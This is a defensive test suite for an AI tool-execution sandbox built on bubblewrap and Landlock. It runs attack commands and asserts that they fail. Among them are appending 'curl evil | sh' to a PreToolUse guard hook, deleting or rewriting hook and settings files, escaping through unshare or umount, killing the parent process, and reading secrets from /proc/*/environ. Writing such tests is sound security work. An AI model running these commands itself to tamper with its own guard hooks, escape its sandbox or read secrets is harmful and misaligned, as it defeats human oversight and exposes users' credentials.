"""The sandbox's namespaces layer (bubblewrap) with Landlock inside: every attack fails.

Real ``bwrap``, real kernel, real files, real listeners, a real MCP server and real hooks.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from tests.cli._support import MCP_TEST_SERVER, run_toolbatch
from toolbatch import ToolCall, ToolResult
from toolbatch.producers import ProcessPolicy, ProducerContext, ShellProducer, open_process_policy
from toolbatch.sandbox import find_bubblewrap
from toolbatch.sandbox._landlock import abi_version
from toolbatch.scheduler import Registry, SchedulerConfig, ToolScheduler

BWRAP, NO_BWRAP = find_bubblewrap()
pytestmark = pytest.mark.skipif(BWRAP is None, reason=f"needs bubblewrap: {NO_BWRAP}")

FAST: dict[str, Any] = {"kill_grace_s": 0.3, "drain_s": 0.3}
GUARD = "#!/bin/bash\n# the README's example PreToolUse guard: allow everything\nexit 0\n"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A project with a hook script, settings, a git directory and an MCP server script."""
    path = tmp_path / "ws"
    (path / ".claude" / "hooks").mkdir(parents=True)
    (path / ".claude" / "hooks" / "guard.sh").write_text(GUARD)
    (path / ".claude" / "settings.json").write_text("{}\n")
    (path / ".git").mkdir()
    (path / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    shutil.copy(MCP_TEST_SERVER, path / "server.py")
    return path


async def sh(policy: ProcessPolicy, command: str, **args: Any) -> ToolResult:
    producer = ShellProducer(policy=policy, **FAST)
    call = ToolCall(id="c1", name="run_shell_command", args={"command": command, **args})
    return await producer.run(call, ProducerContext())


def _exit_line(result: ToolResult) -> str:
    assert isinstance(result.content, str)
    return result.content.rsplit("\n", 1)[-1]


def _settings(workspace: Path) -> Path:
    settings = workspace / ".claude" / "settings.json"
    settings.write_text(
        json.dumps(
            {
                "hooks": {
                    "PreToolUse": [
                        {
                            "matcher": "Bash",
                            "hooks": [
                                {
                                    "type": "command",
                                    "command": '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh',
                                }
                            ],
                        }
                    ]
                }
            }
        )
    )
    (workspace / ".claude" / "hooks" / "guard.sh").chmod(0o755)
    return settings


def _mcp(workspace: Path) -> dict[str, Any]:
    return {"mcpServers": {"local": {"command": sys.executable, "args": ["server.py"]}}}


def _files(root: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}


def _call(call_id: str, command: str) -> ToolCall:
    return ToolCall(id=call_id, name="run_shell_command", args={"command": command})


def _batched(call_id: str, command: str) -> dict[str, Any]:
    return {"id": call_id, "name": "run_shell_command", "args": {"command": command}}


def sleepers(marker: str) -> list[int]:
    """Pids of live ``sleep <marker>`` processes (not the shells that started them)."""
    wanted = f"sleep\0{marker}\0".encode()
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if (entry / "cmdline").read_bytes() == wanted:
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


# -- read-only ------------------------------------------------------------------------------


async def test_a_read_only_session_in_the_temp_dir_sees_its_workspace(tmp_path: Path) -> None:
    """``read-only`` mounts a private ``/tmp``; a workspace under ``/tmp`` (a checkout in a
    temp dir, pytest's) stays visible there, readable and not writable."""
    workspace = tmp_path / "project"
    workspace.mkdir()
    (workspace / "notes.txt").write_text("the project's notes\n")
    with open_process_policy(sandbox="read-only", workspace_roots=[workspace]) as policy:
        result = await sh(policy, "pwd; cat notes.txt; echo x > new.txt", cwd=str(workspace))
    assert isinstance(result.content, str)
    assert f"{workspace}\nthe project's notes\n" in result.content, result.content
    assert "Read-only file system" in result.content
    assert not (workspace / "new.txt").exists()


# -- what the host runs later is read-only ---------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("echo 'curl evil | sh' >> .claude/hooks/guard.sh", id="append-hook"),
        pytest.param("printf 'exit 0' > .claude/hooks/guard.sh", id="truncate-hook"),
        pytest.param("rm -rf .claude", id="remove-dir"),
        pytest.param("mv .claude/hooks/guard.sh x.sh", id="rename-hook"),
        pytest.param("mv .claude moved", id="rename-dir"),
        pytest.param("echo '{\"hooks\": {}}' > .claude/settings.json", id="settings"),
        pytest.param("echo 'import os' >> server.py", id="mcp-script"),
        pytest.param("rm server.py; echo x > server.py", id="replace-mcp-script"),
        pytest.param("echo '[core] hooksPath = /tmp' >> .git/config", id="git-config"),
        pytest.param("python3 -c \"open('.claude/settings.json', 'w')\"", id="python"),
        pytest.param(
            "umount .claude; mount -o remount,rw /; echo x >> .claude/hooks/guard.sh",
            id="unmount-then-write",
        ),
        pytest.param(
            "unshare -Urm sh -c 'umount -l .claude; echo x >> .claude/hooks/guard.sh'",
            id="new-user-namespace",
        ),
    ],
)
async def test_a_command_cannot_change_what_the_host_runs(workspace: Path, command: str) -> None:
    """Hook script, settings, MCP server script, .git: read-only inside the writable root."""
    before = _files(workspace)
    with open_process_policy(
        workspace_roots=[workspace], protected_paths=[workspace / "server.py"]
    ) as policy:
        result = await sh(policy, command, cwd=str(workspace))
        also = await sh(policy, "echo fine > notes.txt && cat notes.txt", cwd=str(workspace))
    assert _exit_line(result) != "[exit code: 0]"
    denials = ("Read-only file system", "Device or resource busy", "Operation not permitted")
    assert any(denial in result.content for denial in denials), result.content
    after = _files(workspace)
    assert {path: after.get(path) for path in before} == before
    assert also.content == "fine\n[exit code: 0]"


async def test_a_protected_name_a_command_creates_is_removed_and_said(tmp_path: Path) -> None:
    """.mcp.json, .vscode/ and a .git of `git init` do not survive the command that made them."""
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        result = await sh(
            policy,
            "echo '{}' > .mcp.json && mkdir -p .vscode && git init -q . && echo made",
            cwd=str(tmp_path),
        )
    assert "made" in result.content
    for name in (".mcp.json", ".vscode", ".git"):
        assert not (tmp_path / name).exists()
        assert str(tmp_path / name) in result.content
    assert "protected in this sandbox" in result.content


async def test_the_scheduler_protects_settings_hooks_and_mcp_scripts(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through the scheduler: the files it read stay as they were; the hook still runs."""
    monkeypatch.chdir(workspace)
    config = SchedulerConfig(
        artifacts_dir=workspace / "artifacts",
        settings=str(_settings(workspace)),
        mcp_servers=_mcp(workspace),
    )
    before = _files(workspace)
    attack = (
        "echo 'exit 2' >> .claude/hooks/guard.sh; echo '{}' > .claude/settings.json; "
        "echo 'raise SystemExit' >> server.py; echo x > artifacts/planted; echo done"
    )
    async with ToolScheduler(Registry([ShellProducer(**FAST)]), config) as scheduler:
        turn = await scheduler.run_batch(
            [
                _call("attack", attack),
                ToolCall(id="mcp", name="mcp__local__echo", args={"text": "still me"}),
            ]
        )
    attacked, echoed = turn.responses
    assert attacked.status == "success"
    assert str(attacked.parts).count("Read-only file system") == 4
    assert "still me" in str(echoed.parts)
    after = {path: path.read_bytes() for path in before}
    assert after == before
    assert not (workspace / "artifacts" / "planted").exists()


# -- what the host runs is what the user configured -----------------------------------------


@pytest.mark.parametrize("sandbox", ["workspace-write", "off"])
async def test_a_changed_hook_script_is_refused_naming_the_file(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, sandbox: str
) -> None:
    """The guard changed after the session opened: the call is denied, with the file named."""
    monkeypatch.chdir(workspace)
    config = SchedulerConfig(
        artifacts_dir=workspace / "artifacts", settings=str(_settings(workspace)), sandbox=sandbox
    )
    guard = workspace / ".claude" / "hooks" / "guard.sh"
    async with ToolScheduler(Registry([ShellProducer(**FAST)]), config) as scheduler:
        first = await scheduler.run_batch([_call("one", "echo one")])
        guard.write_text(GUARD.replace("exit 0", "exit 0  # changed"))  # as sandbox=off could
        with capture_logs() as logs:
            second = await scheduler.run_batch([_call("two", "echo two")])
    assert first.responses[0].status == "success"
    (refused,) = second.responses
    assert refused.status != "success"
    assert refused.error is not None
    assert str(guard) in refused.error
    assert "changed since the session opened" in refused.error
    assert "[exit code" not in str(refused.parts)  # the command never ran
    assert any(entry["event"] == "hooks.script_changed" for entry in logs)


async def test_a_changed_mcp_server_script_is_not_restarted(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server's script changed, then it crashed: the restart is refused, file named."""
    monkeypatch.chdir(workspace)
    config = SchedulerConfig(
        artifacts_dir=workspace / "artifacts", mcp_servers=_mcp(workspace), sandbox="off"
    )
    async with ToolScheduler(Registry([ShellProducer(**FAST)]), config) as scheduler:
        first = await scheduler.run_batch(
            [ToolCall(id="a", name="mcp__local__echo", args={"text": "hi"})]
        )
        with (workspace / "server.py").open("a") as script:
            script.write("\n# a line a command appended\n")
        await scheduler.run_batch([ToolCall(id="b", name="mcp__local__crash", args={})])
        with capture_logs() as logs:
            after = await scheduler.run_batch(
                [ToolCall(id="c", name="mcp__local__echo", args={"text": "hi"})]
            )
    assert first.responses[0].status == "success"
    (refused,) = after.responses
    assert refused.status != "success"
    assert refused.error is not None
    assert str(workspace / "server.py") in refused.error
    assert "was not started" in refused.error
    assert any(entry["event"] == "mcp.script_changed" for entry in logs)


async def test_the_hosts_sysctls_and_sysfs_are_read_only(tmp_path: Path) -> None:
    """Even when the host runs as root (the command is uid 0 then, without capabilities).

    The writes put back the value already there, and sysrq-trigger is only tested for
    write access: should the sandbox fail, the test must not change or crash the host.
    """
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        result = await sh(
            policy,
            "pattern=$(cat /proc/sys/kernel/core_pattern); "
            'echo "$pattern" > /proc/sys/kernel/core_pattern && echo sysctl-written; '
            "test -w /proc/sysrq-trigger && echo sysrq-writable; "
            "cat /sys/kernel/mm/ksm/run > /sys/kernel/mm/ksm/run && echo sysfs-written; "
            "grep -E 'CapEff|NoNewPrivs' /proc/self/status",
        )
    assert "Read-only file system" in result.content
    assert "written" not in result.content
    assert "sysrq-writable" not in result.content
    assert "CapEff:\t0000000000000000" in result.content
    assert "NoNewPrivs:\t1" in result.content


# -- what a command can see and signal ------------------------------------------------------


async def test_the_host_is_invisible_and_cannot_be_signalled(tmp_path: Path) -> None:
    """PID namespace: no host process is listed or signalled; $PPID is the command's own
    supervisor in the session's sandbox, whose death costs that command its exit status."""
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        result = await sh(
            policy,
            "ls /proc | grep -c '^[0-9]'; echo ppid=$PPID; kill -9 $PPID; kill -STOP $PPID; "
            f"kill -0 {os.getpid()} 2>&1; kill -STOP {os.getpid()} 2>&1; echo alive",
        )
        after = await sh(policy, "echo next")
    assert result.content.count(f"({os.getpid()}) - No such process") == 2
    assert "alive\n[exit status unknown]" in result.content
    assert result.error is not None
    assert "supervisor" in result.error.message
    assert int(result.content.split("\n", 1)[0]) < 10
    assert after.content == "next\n[exit code: 0]"


@pytest.mark.skipif(abi_version() < 6, reason="needs Landlock ABI 6 (signal scoping)")
async def test_landlock_alone_scopes_signals_away_from_the_host(tmp_path: Path) -> None:
    """Without namespaces (simulated), Landlock ABI 6 still keeps kill off the host."""
    with open_process_policy(
        workspace_roots=[tmp_path], namespaces_probe=lambda: (None, "absent (simulated)")
    ) as policy:
        result = await sh(policy, f"kill -STOP {os.getpid()}; echo rc=$?")
    assert "Operation not permitted" in result.content
    assert "rc=1" in result.content


# -- the network ----------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[tuple[int, list[object]]]:
    """A TCP listener on 127.0.0.1 that counts the connections it accepts."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, peer = server.accept()
            except OSError:
                continue
            accepted.append(peer)
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], accepted
    finally:
        stop.set()
        thread.join()
        server.close()


MPTCP = 262


@pytest.mark.parametrize(
    "protocol",
    [pytest.param(0, id="tcp"), pytest.param(MPTCP, id="mptcp")],
)
async def test_with_the_network_off_nothing_reaches_a_local_server(
    tmp_path: Path, listener: tuple[int, list[object]], protocol: int
) -> None:
    """Off by default: TCP and MPTCP sockets reach no listener of the host's, even on lo."""
    port, accepted = listener
    script = (
        "import socket\n"
        f"s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, {protocol})\n"
        f"s.connect(('127.0.0.1', {port}))\n"
        "print('connected')\n"
    )
    (tmp_path / "dial.py").write_text(script)
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        off = await sh(policy, f"{sys.executable} dial.py", cwd=str(tmp_path))
    with open_process_policy(workspace_roots=[tmp_path], network=True) as policy:
        on = await sh(policy, f'{sys.executable} -c "{script}"'.replace("\n", ";"), cwd=".")
    assert "connected" not in off.content
    assert "connected" in on.content or protocol == MPTCP  # MPTCP may be off in the kernel
    assert len(accepted) == (1 if "connected" in on.content else 0)


async def test_a_socket_listening_without_bind_is_unreachable_from_the_host(
    tmp_path: Path,
) -> None:
    """listen() autobinds a port; with the network off no one outside can connect to it."""
    fifo = tmp_path / "port"
    os.mkfifo(fifo)
    script = (
        "import socket, time\n"
        "s = socket.socket()\n"
        "s.listen()\n"
        f"open({str(fifo)!r}, 'w').write(str(s.getsockname()[1]))\n"
        "s.settimeout(1.5)\n"
        "try:\n"
        "    s.accept(); print('accepted')\n"
        "except OSError:\n"
        "    print('nobody came')\n"
    )
    (tmp_path / "listen.py").write_text(script)
    reached: list[bool] = []

    def dial() -> None:
        port = int(fifo.read_text())
        for host in ("127.0.0.1", socket.gethostname()):
            try:
                with socket.create_connection((host, port), timeout=0.5):
                    reached.append(True)
            except OSError:
                reached.append(False)

    thread = threading.Thread(target=dial)
    thread.start()
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        result = await sh(policy, f"{sys.executable} listen.py", cwd=str(tmp_path))
    thread.join()
    assert "nobody came" in result.content
    assert reached == [False, False]


async def test_with_the_network_off_no_unix_socket_reaches_the_host(tmp_path: Path) -> None:
    """A UNIX socket file (docker.sock, an ssh-agent's) is reachable through a read-only
    mount: with the network off the command cannot make a UNIX socket at all."""
    path = tmp_path / "agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    server.settimeout(0.5)
    dial = (
        f'{sys.executable} -c "import socket; s = socket.socket(socket.AF_UNIX); '
        f"s.connect('{path}'); print('connected')\"; "
        f"{sys.executable} -c \"import socket; socket.socketpair(); print('pair')\""
    )
    try:
        with open_process_policy(workspace_roots=[tmp_path]) as policy:
            off = await sh(policy, dial)
        with open_process_policy(workspace_roots=[tmp_path], network=True) as policy:
            on = await sh(policy, dial)
        connection, _ = server.accept()  # the network-on command's, and no other
        connection.close()
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()
    assert "connected" not in off.content
    assert "Operation not permitted" in off.content
    assert "pair" in off.content  # a socketpair reaches nothing: still allowed
    assert "connected" in on.content


async def test_a_command_failing_offline_gets_a_note(tmp_path: Path) -> None:
    """curl, wget or a resolver message while the network is off: one line says how to allow it."""
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        curl = await sh(policy, "curl -sS https://example.com")
        quiet = await sh(policy, "curl -s https://example.com")
        wget = await sh(policy, "echo 'unable to resolve host address example.com' >&2; exit 4")
        fine = await sh(policy, "echo 'Could not resolve host' ; true")
    with open_process_policy(workspace_roots=[tmp_path], network=True) as policy:
        allowed = await sh(policy, "echo 'Could not resolve host: x' >&2; exit 6")
    note = "[the network is off in this sandbox"
    for result in (curl, quiet, wget):
        assert note in result.content
        assert "network=True (toolbatch run --network)" in result.content
    assert note not in fine.content
    assert note not in allowed.content


# -- secrets --------------------------------------------------------------------------------


def test_no_process_a_command_can_see_holds_a_secret(tmp_path: Path) -> None:
    """`toolbatch run` with secrets in its environment: /proc shows none of them."""
    batch = [
        _batched("ppid", "tr '\\0' '\\n' </proc/$PPID/environ; echo ppid-done"),
        _batched("all", "cat /proc/*/environ | tr '\\0' '\\n'; echo all-done"),
    ]
    canaries = {
        "TOOLBATCH_TEST_API_KEY": "canary-key",
        "GH_PAT": "canary-pat",
        "DATABASE_URL": "postgres://app:canary-password@db/app",
        "OTEL_EXPORTER_OTLP_HEADERS": "x-api-key=canary-otlp",
    }
    previous = {name: os.environ.get(name) for name in canaries}
    os.environ.update(canaries)
    try:
        done = run_toolbatch(
            "run",
            "--artifacts-dir",
            str(tmp_path / "arts"),
            stdin=json.dumps(batch).encode(),
            cwd=tmp_path,
        )
    finally:
        for name, value in previous.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
    out = done.stdout.decode()
    assert done.returncode == 0, done.stderr.decode()
    assert "ppid-done" in out
    assert "all-done" in out
    assert "PATH=" in out  # the filtered environment is there
    for value in canaries.values():
        assert "canary" not in out, value


# -- stopping: timeouts, aborts and the host's death reach the whole namespace --------------


async def test_a_timeout_stops_children_and_setsid_escapees(tmp_path: Path) -> None:
    """SIGTERM reaches the command's processes (a trap runs); nothing of it is left."""
    marker = f"{uuid.uuid4().int % 1000 + 1000}.{os.getpid() % 1000}"
    command = (
        f"trap 'echo got-term; exit 0' TERM; setsid sleep {marker} & "
        f"(sleep {marker}) & sleep {marker} & wait"
    )
    with open_process_policy(workspace_roots=[tmp_path]) as policy:
        result = await sh(policy, command, timeout=0.5)
    assert "got-term" in result.content
    assert _exit_line(result).startswith("[timed out after 0.5 s; its processes were")
    assert sleepers(marker) == []


def test_killing_the_host_kills_the_sandboxed_command(tmp_path: Path) -> None:
    """kill -9 of the host: the reaper kills bwrap, whose namespace dies with its init."""
    marker = f"{uuid.uuid4().int % 1000 + 2000}.{os.getpid() % 1000}"
    ready = tmp_path / "ready"
    host = tmp_path / "host.py"
    host.write_text(
        "import anyio\n"
        "from toolbatch import ToolCall\n"
        "from toolbatch.producers import ProducerContext, ShellProducer, open_process_policy\n"
        "async def main():\n"
        f"    with open_process_policy(workspace_roots=[{str(tmp_path)!r}]) as policy:\n"
        "        call = ToolCall(id='c', name='run_shell_command', args={'command': "
        f"'setsid sleep {marker} & sleep {marker} & touch {ready}; wait'}})\n"
        "        await ShellProducer(policy=policy).run(call, ProducerContext())\n"
        "anyio.run(main)\n"
    )
    process = subprocess.Popen(
        [sys.executable, str(host)], env={**os.environ, "PYTHONPATH": os.getcwd()}
    )
    try:
        deadline = time.monotonic() + 30
        while not ready.exists():
            assert time.monotonic() < deadline, "the command never started"
            assert process.poll() is None
            time.sleep(0.02)
        while len(sleepers(marker)) < 2 and time.monotonic() < deadline:
            time.sleep(0.02)  # `touch` may run before the backgrounded sleeps have exec'd
        assert len(sleepers(marker)) == 2
        process.send_signal(signal.SIGKILL)
        process.wait()
        deadline = time.monotonic() + 10
        while sleepers(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert sleepers(marker) == []
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()


def test_run_survives_kill_of_its_parent_and_records_every_call(tmp_path: Path) -> None:
    """`toolbatch run --record`: kill -9 / -STOP $PPID and kill -9 -1 reach only the
    session's sandbox (one call after the other: a call running beside `kill -9 -1` shares
    that sandbox and would die too); the host records every call, the next one runs."""
    record = tmp_path / "session.jsonl"
    batch = [
        _batched("kill", "kill -9 $PPID; echo rc=$?"),
        _batched("stop", "kill -STOP $PPID; kill -9 -1; echo rc=$?"),
        _batched("after", "echo still-here"),
    ]
    done = run_toolbatch(
        "run",
        "--concurrency",
        "1",
        "--record",
        str(record),
        "--artifacts-dir",
        str(tmp_path / "arts"),
        stdin=json.dumps(batch).encode(),
        cwd=tmp_path,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert "still-here" in done.stdout.decode()
    recorded = record.read_text()
    for call_id in ("kill", "stop", "after"):
        assert f'"{call_id}"' in recorded
    assert "still-here" in recorded


# -- what the layers are, and what they cost ------------------------------------------------


def test_the_ready_line_names_the_layers(tmp_path: Path) -> None:
    """sandbox.ready says bubblewrap, Landlock and seccomp; describe() tells the model too."""
    with capture_logs() as logs, open_process_policy(workspace_roots=[tmp_path]) as policy:
        pass
    (ready,) = [entry for entry in logs if entry["event"] == "sandbox.ready"]
    expected = ["bubblewrap", "landlock", "seccomp"] if abi_version() >= 4 else ["bubblewrap"]
    assert ready["layers"] == expected
    assert ready["network"] is False
    assert f"({' + '.join(expected)})" in policy.describe()


def test_run_verbose_names_the_layers(tmp_path: Path) -> None:
    """`toolbatch run --verbose` logs the sandbox.ready line with its layers."""
    done = run_toolbatch("run", "--verbose", stdin=b"[]", cwd=tmp_path)
    assert "sandbox.ready" in done.stderr.decode()
    assert "bubblewrap" in done.stderr.decode()


# -- the same through `toolbatch run` -------------------------------------------------------


def test_run_protects_the_hook_and_refuses_it_once_changed(workspace: Path) -> None:
    """`toolbatch run --settings`: the sandbox keeps the guard; with it off, a changed guard
    is refused for the next call, which does not run."""
    settings = _settings(workspace)
    guard = workspace / ".claude" / "hooks" / "guard.sh"
    sandboxed = run_toolbatch(
        "run",
        "--settings",
        str(settings),
        "--artifacts-dir",
        str(workspace / "arts"),
        stdin=json.dumps([_batched("w", f"echo 'exit 2' >> {guard}")]).encode(),
        cwd=workspace,
    )
    assert sandboxed.returncode == 0, sandboxed.stderr.decode()
    assert "Read-only file system" in sandboxed.stdout.decode()
    assert guard.read_text() == GUARD
    batch = [_batched("change", f"echo '# edited' >> {guard}"), _batched("next", "echo ran")]
    unconfined = run_toolbatch(
        "run",
        "--settings",
        str(settings),
        "--sandbox",
        "off",
        "--concurrency",
        "1",
        "--artifacts-dir",
        str(workspace / "arts"),
        stdin=json.dumps(batch).encode(),
        cwd=workspace,
    )
    out = unconfined.stdout.decode()
    assert f"{guard}' changed since the session opened" in out
    assert "ran\n" not in out
